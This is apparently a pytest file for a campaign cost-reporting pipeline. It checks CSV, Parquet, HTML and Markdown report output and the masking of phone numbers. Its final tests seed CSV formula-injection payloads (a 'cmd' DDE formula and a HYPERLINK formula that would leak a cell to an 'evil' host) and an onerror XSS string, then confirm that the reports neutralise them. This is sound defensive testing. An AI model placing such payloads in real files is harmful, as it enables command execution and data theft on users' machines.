"""The report files: CSV/Parquet numbers, a self-contained HTML page with charts, Markdown, period bills,
artifact data, points settled, and no phone number anywhere."""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from pipeline.costs import costing as costs
from pipeline.costs import points
from pipeline.costs.report import parse_period, report_artifacts, write_period_report, write_report
from pipeline.store import Store
from tests.costs.rows import add_campaign, add_outbox, add_receipt

PHONES = ["+447700900123", "+447700900456", "+491701234567", "+18095550199"]


@pytest.fixture
def db(db: Store) -> Store:
    costs.load_prices(db)
    add_campaign(db, "spring", name="Spring sale", template="spring_sale_v2")
    countries = ["GB", "GB", "DE", "DO"]
    for i, (phone, country) in enumerate(zip(PHONES, countries, strict=True), start=1):
        db.execute(
            "INSERT INTO recipients (campaign_id, row_number, recipient_key, phone_e164, country) "
            "VALUES ('spring', :n, :phone, :phone, :country)", n=i, phone=phone, country=country)
        add_outbox(db, "spring", f"m{i}", recipient_key=phone, country=country, state="sent", sender="15550001111",
                   payload_json=f'{{"to": "{phone}"}}', provider_message_id=f"wamid.m{i}", attempts=0,
                   queued_at="2026-10-10 09:00:00+00", sent_at="2026-10-10 10:00:00+00")
    events = [
        ("m1", "read", "marketing", "regular"),  # GB: delivered + read
        ("m2", "delivered", "marketing", "regular"),  # GB: delivered
        ("m3", "delivered", "utility", "regular"),  # DE: billed as utility
        ("m4", "failed", None, None),  # DO: failed (131026)
    ]
    for mid, status, category, pricing_type in events:
        add_receipt(db, f"{mid}:{status}", mid, status, "2026-10-10 10:01:00+00", category=category,
                    pricing_type=pricing_type, recipient=PHONES[int(mid[1:]) - 1],
                    error_code="131026" if status == "failed" else None,
                    error_title=f"Undeliverable to {PHONES[3]}" if status == "failed" else None)
    for row_number, reason, detail in [(5, "invalid_number", "+44 7700 900999 is not a number"),
                                       (6, "duplicate", "row 1"), (7, "duplicate", "row 2")]:
        db.execute("INSERT INTO rejects (campaign_id, row_number, reason, detail) VALUES ('spring', :n, :r, :d)",
                   n=row_number, r=reason, d=detail)
    return db


def digits(text: str) -> str:
    return re.sub(r"\D", "", text)


COLUMNS = ["channel", "country", "market", "category", "sent", "delivered", "read", "failed", "delivery_rate",
           "read_rate", "platform_fee_usd", "service_fee_usd", "total_usd", "cost_per_delivered_usd",
           "free_window_messages", "free_window_savings_usd", "recategorised", "recategorisation_cost_usd",
           "tier_discount_usd", "points_used", "unpriced"]


def test_csv_and_parquet_have_the_report_rows(db: Store, tmp_path: Path) -> None:
    files = write_report(db, "spring", tmp_path / "out")
    df = pl.read_csv(files.csv, infer_schema=False)
    assert df.columns == COLUMNS
    rows = {(r["country"], r["category"]): r for r in df.iter_rows(named=True)}
    assert set(rows) == {("DE", "utility"), ("DO", "marketing"), ("GB", "marketing")}
    gb = rows[("GB", "marketing")]
    assert (gb["sent"], gb["delivered"], gb["read"], gb["failed"]) == ("2", "2", "1", "0")
    assert (gb["delivery_rate"], gb["read_rate"]) == ("1.0", "0.5")
    # 2 x 0.0635 platform + 2 x 0.005 service, exact to six places; 1,370 points.
    assert (gb["platform_fee_usd"], gb["service_fee_usd"], gb["total_usd"]) == ("0.127000", "0.010000", "0.137000")
    assert (gb["cost_per_delivered_usd"], gb["points_used"]) == ("0.068500", "1370.00")
    de = rows[("DE", "utility")]
    assert (de["total_usd"], de["recategorised"], de["recategorisation_cost_usd"]) == ("0.060000", "1", "-0.081500")
    assert rows[("DO", "marketing")]["total_usd"] == "0.005000"
    assert rows[("DO", "marketing")]["market"] == "Rest of Latin America"

    parquet = pl.read_parquet(files.parquet)
    assert parquet.columns == COLUMNS
    assert parquet.schema["total_usd"] == pl.Decimal(18, 6)  # exact, not float
    assert parquet["total_usd"].sum() == Decimal("0.202")
    failures = pl.read_csv(files.failures_csv, infer_schema=False)
    assert failures.rows() == [("whatsapp", "DO", "marketing", "131026",
                                "Undeliverable: not on WhatsApp, terms not accepted, or an old app", "1")]
    assert pl.read_parquet(files.failures_parquet).height == 1


def test_html_is_self_contained_with_charts_table_totals_and_summary(db: Store,
                                                                    tmp_path: Path) -> None:
    costs.estimate_cost(db, "spring", on=date(2026, 10, 10))
    files = write_report(db, "spring", tmp_path / "out")
    html = files.html.read_text(encoding="utf-8")
    assert "Spring sale" in html and "spring_sale_v2" in html and "whatsapp" in html
    assert '<table id="cost-report">' in html
    assert "United Kingdom" in html and "Rest of Latin America" in html
    # Totals row: 4 sent, 3 delivered, 1 read, 1 failed, USD 0.182 platform + 0.020 service.
    foot = html[html.index("<tfoot>"): html.index("</tfoot>")]
    assert all(f">{v}<" in foot for v in ("4", "3", "1", "75.0%", "33.3%", "0.182000", "0.020000", "0.202000"))
    # Summary derived from the database: 7 rows read, 4 accepted, 3 rejected (2 duplicate, 1 invalid).
    box = html[html.index('<dl class="summary">'): html.index("</dl>")]
    assert "Rows read</dt><dd>7" in box and "Accepted</dt><dd>4" in box
    assert "duplicate: 2" in box and "invalid_number: 1" in box and "Cost (USD)</dt><dd>0.202000" in box
    # Charts: bars per country with cost (GB, DE, DO), the funnel's three bars, one failure code.
    for chart, bars in (("chart-cost-by-country", 6), ("chart-funnel", 3), ("chart-failures", 1)):
        svg = html[html.index(f'<svg class="chart" id="{chart}"'):]
        svg = svg[: svg.index("</svg>")]
        assert svg.count('class="bar"') == bars, chart
    assert "131026" in html and "Undeliverable" in html
    # Estimate (all four as marketing: GB 2 x 0.0685, DE 0.1415, DO 0.079) against actual, per country.
    est = html[html.index('<table id="estimate">'):]
    assert ">0.141500<" in est and ">0.060000<" in est and ">-0.081500<" in est
    assert "found no price" not in html  # every message was priced
    # Works offline: no external stylesheet, script, font or image.
    assert not re.search(r"<(script|link|img)\b|https?://|@import", html)


def test_markdown_report(db: Store, tmp_path: Path) -> None:
    text = write_report(db, "spring", tmp_path).markdown.read_text(encoding="utf-8")
    assert text.startswith("# Campaign report: Spring sale\n")
    assert "sent 4, delivered 3 (75.0%), read 1 (33.3%), failed 1" in text
    assert "cost USD 0.202000 = platform 0.182000 + service 0.020000" in text
    assert "| whatsapp | GB | marketing | 2 | 2 | 1 | 0 | 0.137000 | 1370.00 |" in text
    assert "| whatsapp | 131026 | Undeliverable" in text


def test_write_report_settles_the_points_trial_first(db: Store, tmp_path: Path) -> None:
    html = write_report(db, "spring", tmp_path).html.read_text(encoding="utf-8")
    assert points.campaign_points(db, "spring") == {
        "trial": Decimal(2020), "paid": Decimal(0), "unfunded": Decimal(0), "total": Decimal(2020)}
    assert points.balances(db)["trial"] == Decimal(100_000 - 2020)
    assert "trial credit: 2020.00" in html
    write_report(db, "spring", tmp_path)  # regenerating charges nothing more
    assert points.campaign_points(db, "spring")["total"] == Decimal(2020)


def test_summary_passed_in_is_shown(db: Store, tmp_path: Path) -> None:
    summary = {"campaign_id": "spring", "rows_read": 10, "accepted": 8, "rejected": {"not_mobile": 2}, "sent": 4,
               "cost_usd": Decimal("0.202"), "note": "retry of +447700900123 skipped"}
    html = write_report(db, "spring", tmp_path, summary=summary).html.read_text(encoding="utf-8")
    assert "Rows read</dt><dd>10" in html and "not_mobile: 2" in html and "0.202000" in html
    assert "+447700900123" not in html  # free text is masked too
    assert "Campaign id" not in html  # already in the header


def test_no_phone_number_in_any_report_file(db: Store, tmp_path: Path) -> None:
    files = write_report(db, "spring", tmp_path / "out")
    period = write_period_report(db, "2026-10", tmp_path / "period")
    artifacts = report_artifacts(db, "spring")
    texts = [p.read_text(encoding="utf-8") for p in (files.csv, files.html, files.markdown, files.failures_csv,
                                                     period.html, period.markdown, period.failures_csv)]
    texts += [str(pl.read_parquet(p).to_dicts()) for p in (files.parquet, files.failures_parquet)]
    texts += [str(artifacts)]
    for text in texts:
        flat = digits(text)
        for phone in PHONES:
            assert phone not in text
            assert digits(phone)[-9:] not in flat  # not even without the country code


def test_period_report_is_the_bill_across_campaigns(db: Store, tmp_path: Path) -> None:
    files = write_period_report(db, "2026-10", tmp_path)
    df = pl.read_parquet(files.parquet)
    assert df.columns == ["campaign_id", *COLUMNS]
    assert df["campaign_id"].unique().to_list() == ["spring"] and df["total_usd"].sum() == Decimal("0.202")
    html = files.html.read_text(encoding="utf-8")
    assert "Bill for 2026-10" in html and "2026-10-01 to 2026-10-31" in html
    assert write_period_report(db, "2026-11", tmp_path / "nov").csv.read_text().count("\n") == 1  # header only


def test_period_parsing() -> None:
    assert parse_period("2026-02") == (date(2026, 2, 1), date(2026, 2, 28))
    assert parse_period("2026-11-03") == (date(2026, 11, 3), date(2026, 11, 3))
    for bad in ("2026-13", "2026/11", "nov"):
        with pytest.raises(ValueError):
            parse_period(bad)


def test_artifact_data_is_plain(db: Store) -> None:
    data = report_artifacts(db, "spring")
    gb = next(r for r in data["table"] if r["country"] == "GB")
    assert (gb["total_usd"], gb["sent"]) == (0.137, 2) and isinstance(gb["total_usd"], float)
    assert data["failures"][0]["error_code"] == "131026"
    assert data["markdown"].startswith("# Campaign Spring sale (spring)") and data["totals"]["total_usd"] == 0.202


def test_unknown_campaign_is_an_error(db: Store, tmp_path: Path) -> None:
    with pytest.raises(LookupError):
        write_report(db, "nope", tmp_path)


# Text cells a spreadsheet would run as a formula (the `=`, `+`, `-`, `@` of pipeline/render/prepare.py).
FORMULA = "=+-@"
HOSTILE_ID = "=cmd|' /C calc'!A0"


def _hostile_campaign(db: Store) -> None:
    """A campaign whose id, failure codes and titles, approval and arm are formulas, HTML, and table pipes."""
    add_campaign(db, HOSTILE_ID, name="Promo for +44 7700 900123", template="tpl_+447700900456")
    for i, (code, title) in enumerate([("=1+2", '=HYPERLINK("http://evil/?"&A1,"click")'),
                                       ("-2+3", "<img src=x onerror=alert(1)> | quoted | here")]):
        add_outbox(db, HOSTILE_ID, f"h{i}", recipient_key=f"+4477009009{i:02d}", state="sent", country="GB",
                   provider_message_id=f"wamid.h{i}", sent_at="2026-10-10 10:00:00+00")
        add_receipt(db, f"h{i}:failed", f"h{i}", "failed", "2026-10-10 10:01:00+00", error_code=code,
                    error_title=title)
    db.execute("""INSERT INTO campaign_approvals (request_id, campaign_id, origin, requested_by, requested_at, messages,
                  estimate_usd, decision, approver, comment, decided_at) VALUES ('r1', :c, '=1+1', '@SUM(1+1)', :t, 2,
                  '0.1', 'approved', '-2+3', '=HYPERLINK("http://evil","ok")', :t)""",
               c=HOSTILE_ID, t=datetime(2026, 10, 10, tzinfo=UTC))
    for key, arm in (("+447700900900", "=1+2"), ("+447700900999", "holdout")):
        db.execute("INSERT INTO experiment_arms (campaign_id, recipient_key, arm, country, assigned_at) "
                   "VALUES (:c, :k, :a, 'GB', :t)", c=HOSTILE_ID, k=key, a=arm, t=datetime(2026, 10, 10, tzinfo=UTC))


def _formula_cells(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would evaluate (a number, e.g. a negative amount, is no formula)."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    with path.open(newline="", encoding="utf-8") as handle:
        return [c for row in csv.reader(handle) for c in row if c and c[0] in FORMULA and not number(c)]


def test_every_csv_of_the_reports_is_spreadsheet_safe(db: Store, tmp_path: Path) -> None:
    _hostile_campaign(db)
    files = write_report(db, HOSTILE_ID, tmp_path / "campaign")
    period = write_period_report(db, "2026-10", tmp_path / "period")
    written = [files.csv, files.failures_csv, files.approvals_csv, files.experiment_csv, period.csv,
               period.failures_csv]
    assert all(path is not None and path.is_file() for path in written)
    for path in written:
        assert _formula_cells(path) == [], path.name  # type: ignore[arg-type]
    # Neutralised, not dropped: the cell is the text with a ' before it.
    assert "'=1+2" in files.failures_csv.read_text() and f"'{HOSTILE_ID}" in period.csv.read_text()
    assert "'-2+3" in files.approvals_csv.read_text()  # type: ignore[union-attr]
    # No writer of pipeline/costs bypasses pipeline/costs/exports.write_csv (where the escape is).
    package = Path(__file__).resolve().parents[2] / "pipeline" / "costs"
    assert [p.name for p in sorted(package.glob("*.py")) if p.name != "exports.py"
            and re.search(r"\.write_csv\(|csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))] == []


def test_the_page_masks_the_campaign_name_and_header(db: Store, tmp_path: Path) -> None:
    _hostile_campaign(db)
    html = write_report(db, HOSTILE_ID, tmp_path).html.read_text(encoding="utf-8")
    head = html[: html.index('<p class="meta">')]
    assert "+44*******123" in head  # the name is shown in the title and the heading, masked
    meta = html[html.index('<p class="meta">'):]
    meta = meta[: meta.index("</p>")]
    assert "tpl_+44*******456" in meta
    for phone in ("447700900123", "447700900456"):
        assert phone not in digits(html)


def test_markdown_failure_cells_keep_the_table_and_carry_no_html(db: Store, tmp_path: Path) -> None:
    _hostile_campaign(db)
    texts = [write_report(db, HOSTILE_ID, tmp_path).markdown.read_text(encoding="utf-8"),
             report_artifacts(db, HOSTILE_ID)["markdown"]]
    for text in texts:
        table = text[text.index("## Failures by error code"):].split("\n\n")[1].splitlines()
        assert table[0] == "| channel | code | meaning | failed |"
        assert all(row.count("|") == 5 for row in table)  # a pipe in a provider's text splits no cell
        assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt; / quoted / here" in text
